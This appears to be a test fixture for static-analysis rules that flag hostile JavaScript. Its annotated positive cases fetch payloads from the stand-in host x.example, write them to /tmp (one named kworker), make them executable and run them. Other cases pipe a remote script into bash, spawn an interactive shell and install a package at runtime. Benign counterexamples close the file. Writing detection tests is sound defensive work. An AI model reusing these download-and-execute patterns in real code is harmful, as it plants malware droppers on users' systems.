const fs = require("fs");
const https = require("https");
const { execFile, execSync, spawn } = require("child_process");
const cp = require("child_process");

async function dropper() {
  const res = await fetch("http://x.example/bin");
  const p = "/tmp/.x";
  fs.writeFileSync(p, Buffer.from(await res.arrayBuffer()));
  // ruleid: js-write-then-execute, js-chmod-executable
  fs.chmodSync(p, 0o755);
  // ruleid: js-write-then-execute
  cp.execFile(p, () => {});
}

function dropper2() {
  const dest = "/tmp/kworker";
  const file = fs.createWriteStream(dest);
  https.get("https://x.example/k", (res) => {
    res.pipe(file);
    file.on("finish", () => {
      // ruleid: js-write-then-execute, js-chmod-executable
      fs.chmodSync(dest, "755");
      // ruleid: js-write-then-execute
      cp.spawn(dest, [], {});
    });
  });
}

function pipeToShell() {
  const sh = cp.spawn("bash", ["-s"]);
  https.get("https://x.example/install.sh", (res) => {
    // ruleid: js-stream-into-shell
    res.pipe(sh.stdin);
  });
  // ruleid: js-stream-into-shell
  cp.spawn("/bin/sh", ["-i"], { stdio: "inherit" });
}

function installs() {
  // ruleid: js-runtime-package-install
  cp.execSync("npm install --no-save left-pad-ng");
}

function benign(event) {
  const out = "/tmp/in.png";
  fs.writeFileSync(out, Buffer.from(event.body, "base64"));
  // ok: js-write-then-execute
  cp.execFile("convert", [out, "-resize", "50%", "/tmp/out.png"], () => {});
  // ok: js-write-then-execute, js-chmod-executable
  fs.chmodSync(out, 0o644);
  // ok: js-stream-into-shell
  const gz = cp.spawn("gzip", ["-c"]);
  // ok: js-stream-into-shell
  fs.createReadStream(out).pipe(gz.stdin);
  // ok: js-runtime-package-install
  cp.execSync("npm --version");
  return fs.readFileSync("/tmp/out.png");
}
